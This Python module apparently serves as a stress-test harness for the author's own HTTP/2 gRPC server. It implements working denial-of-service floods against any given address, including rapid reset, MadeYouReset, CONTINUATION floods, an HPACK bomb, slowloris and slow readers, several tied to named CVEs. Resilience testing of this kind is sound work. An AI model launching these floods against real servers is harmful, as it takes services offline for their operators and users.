"""Floods: what means a server harm, on its wire; each a function of an address and of how much of it there shall be."""

import itertools
import random
import socket
import struct
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from frames import PATIENCE_S, PREFACE, Connection, Flag, Kind, asking, block, frame, framed

HELD = 500  # connections that are kept, at most
TURN_S, HELD_A_TURN = 0.1, 800  # of a turn, and the units for which there is one: 10^5 hold connections for 12 s
AT_ONCE = 50  # units of one write
STUCK_S = 0.5  # after which a connection that takes nothing is given up
CANCEL = struct.pack(">I", 8)
HEADERS = block(asking())


def again(
    address: str, count: int, begin: Callable[[Connection], None], unit: Callable[[Connection, int], bytes]
) -> int:
    """Send units, 50 at a time, on a connection that is made anew whenever it is closed; connections made."""
    made = 0
    units = iter(range(0, count, AT_ONCE))
    for first in units:
        with suppress(OSError), Connection(address, polite=False) as connection:
            connection.socket.settimeout(STUCK_S)
            made += 1
            begin(connection)
            for number in itertools.chain((first,), units):
                if not connection.send(b"".join(unit(connection, number + each) for each in range(AT_ONCE))):
                    break
                if connection.ended():
                    break
    return made


def nothing(_connection: Connection) -> None:
    """No more than the preface."""


def begun(connection: Connection) -> None:
    """A call without its message."""
    connection.begin()


def unfinished(connection: Connection) -> None:
    """A call without the end of its headers."""
    connection.begin(more=True)


def hold(address: str, count: int, begin: Callable[[Connection], None], drip: bytes = b"") -> int:
    """Keep many connections, each begun, and send a byte a turn on every one, for as long as the count says."""
    with ExitStack() as stack:
        held = list[Connection]()
        for _ in range(min(HELD, count)):
            with suppress(OSError):
                connection = stack.enter_context(Connection(address, polite=False))
                connection.socket.settimeout(0.05)
                begin(connection)
                held.append(connection)
        for turn in range(max(1, count // HELD_A_TURN)):
            for each in held:
                each.send(drip[turn % len(drip) :][:1] if drip else b"")
            time.sleep(TURN_S)
        return len(held)


def rapid_reset(address: str, count: int) -> int:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""

    def unit(connection: Connection, _number: int) -> bytes:
        stream = connection.stream()
        return frame(Kind.HEADERS, Flag.END_HEADERS, stream, HEADERS) + frame(Kind.RST_STREAM, 0, stream, CANCEL)

    return again(address, count, nothing, unit)


def made_you_reset(address: str, count: int) -> int:
    """Calls that the server itself must reset, for a window of nothing (CVE-2025-8671)."""

    def unit(connection: Connection, _number: int) -> bytes:
        stream = connection.stream()
        return frame(Kind.HEADERS, Flag.END_HEADERS, stream, HEADERS) + frame(Kind.WINDOW_UPDATE, 0, stream, bytes(4))

    return again(address, count, nothing, unit)


def continuation(address: str, count: int) -> int:
    """Headers without an end (CVE-2024-27316)."""
    more = block([("x", "y" * 500)])
    return again(address, count, unfinished, lambda *_: frame(Kind.CONTINUATION, 0, 1, more))


def empty_continuation(address: str, count: int) -> int:
    """Headers without an end, of no size."""
    return again(address, count, unfinished, lambda *_: frame(Kind.CONTINUATION, 0, 1))


def ping(address: str, count: int) -> int:
    """Pings whose answers nobody reads (CVE-2019-9512)."""
    return again(address, count, nothing, lambda _, number: frame(Kind.PING, 0, 0, struct.pack(">Q", number)))


def settings(address: str, count: int) -> int:
    """Settings whose answers nobody reads (CVE-2019-9515)."""
    return again(address, count, nothing, lambda *_: frame(Kind.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


def empty_data(address: str, count: int) -> int:
    """Data of no size without an end (CVE-2019-9518)."""
    return again(address, count, begun, lambda *_: frame(Kind.DATA, 0, 1))


def priority(address: str, count: int) -> int:
    """Streams that change their places all the while (CVE-2019-9513)."""

    def unit(_connection: Connection, number: int) -> bytes:
        return frame(Kind.PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, number % 256))

    return again(address, count, nothing, unit)


def huge_headers(address: str, count: int) -> int:
    """Calls with 200 kB of headers."""
    big = block([*asking(), *(("x", "y" * 4000) for _ in range(50))])
    parts = [big[at : at + 16000] for at in range(0, len(big), 16000)]

    def unit(connection: Connection, _number: int) -> bytes:
        stream = connection.stream()
        head = frame(Kind.HEADERS, Flag.END_STREAM, stream, parts[0])
        ends = [0] * (len(parts) - 2) + [Flag.END_HEADERS]
        return head + b"".join(frame(9, flags, stream, part) for flags, part in zip(ends, parts[1:], strict=True))

    return again(address, count // 50, nothing, unit)


def hpack_bomb(address: str, count: int) -> int:
    """One great header put into the table, and named thousands of times (CVE-2016-6581)."""
    kept = b"\x40\x01x" + b"\x7f" + bytes([(3000 - 127) % 128 | 128, (3000 - 127) // 128]) + b"y" * 3000

    def unit(connection: Connection, _number: int) -> bytes:
        flags = Flag.END_STREAM | Flag.END_HEADERS
        return frame(Kind.HEADERS, flags, connection.stream(), HEADERS + kept + b"\xbe" * 8000)

    return again(address, count // 50, nothing, unit)


def window_overflow(address: str, count: int) -> int:
    """Data beyond the window, and windows opened beyond what there is."""

    def unit(connection: Connection, number: int) -> bytes:
        stream = connection.stream()
        over = frame(Kind.WINDOW_UPDATE, 0, stream if number % 2 else 0, struct.pack(">I", 0x7FFFFFFF))
        return (
            frame(Kind.HEADERS, Flag.END_HEADERS, stream, HEADERS)
            + frame(Kind.DATA, 0, stream, bytes(16384)) * 5
            + over
        )

    return again(address, count // 50, nothing, unit)


def half_open(address: str, count: int) -> int:
    """As many calls as a connection may have, none of which sends its message."""

    def begin(connection: Connection) -> None:
        streams = b"".join(frame(1, Flag.END_HEADERS, connection.stream(), HEADERS) for _ in range(200))
        connection.send(streams)

    return hold(address, count, begin)


def half_messages(address: str, count: int) -> int:
    """Calls that announce sixteen megabytes and send as many as they may, but the last."""

    def begin(connection: Connection) -> None:
        connection.begin()
        connection.send(frame(Kind.DATA, 0, 1, framed(bytes(16000), length=16 << 20)))

    return hold(address, count // 10, begin)


def slow_loris(address: str, count: int) -> int:
    """Connections that send a call a byte a turn."""
    return hold(address, count, nothing, frame(Kind.HEADERS, Flag.END_HEADERS, 1, HEADERS))


def silent(address: str, count: int) -> int:
    """Connections that send nothing, not even the preface."""
    host, _, port = address.rpartition(":")
    with ExitStack() as stack:
        for _ in range(min(HELD, count)):
            with suppress(OSError):
                stack.enter_context(socket.create_connection((host, int(port)), PATIENCE_S))
        time.sleep(TURN_S * max(1, count // HELD_A_TURN))
    return min(HELD, count)


def slow_readers(address: str, count: int) -> int:
    """Calls with long replies, of which nobody opens the window or reads a byte."""
    asked = framed(b"")

    def begin(connection: Connection) -> None:
        connection.send(frame(Kind.SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        for _ in range(50):
            stream = connection.begin(asking("/quorem.v1.Scorer/Describe"))
            connection.send(frame(Kind.DATA, Flag.END_STREAM, stream, asked))

    return hold(address, count // 5, begin)


def garbage(address: str, count: int) -> int:
    """Bytes that are no HTTP/2, HTTP/1.1, and hellos of TLS."""
    host, _, port = address.rpartition(":")
    drawn = random.Random(7)
    kinds = itertools.cycle([b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"", PREFACE, b"\x16\x03\x01\x02\x00\x01"])
    for _, kind in zip(range(count // 50), kinds, strict=False):
        with suppress(OSError), socket.create_connection((host, int(port)), PATIENCE_S) as connection:
            connection.sendall(kind + drawn.randbytes(2000))
    return count // 50


def dropped(address: str, count: int) -> int:
    """Connections opened and dropped: at once, after the preface, or in the midst of a call."""
    host, _, port = address.rpartition(":")
    starts = [b"", PREFACE, PREFACE + frame(4) + frame(Kind.HEADERS, Flag.END_HEADERS, 1, HEADERS)]
    for number in range(count):
        source = f"127.{1 + number // 10_000}.0.1", 0  # an address has ports for 28,000 connections a minute
        with suppress(OSError), socket.create_connection((host, int(port)), PATIENCE_S, source) as connection:
            connection.sendall(starts[number % 3])
            if number % 2:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # closed by a reset
    return count


FLOODS: dict[str, Callable[[str, int], int]] = {
    each.__name__: each
    for each in (
        *(rapid_reset, made_you_reset, continuation, empty_continuation, ping, settings, empty_data, priority),
        *(huge_headers, hpack_bomb, window_overflow, half_open, half_messages, slow_loris, silent, slow_readers),
        *(garbage, dropped),
    )
}
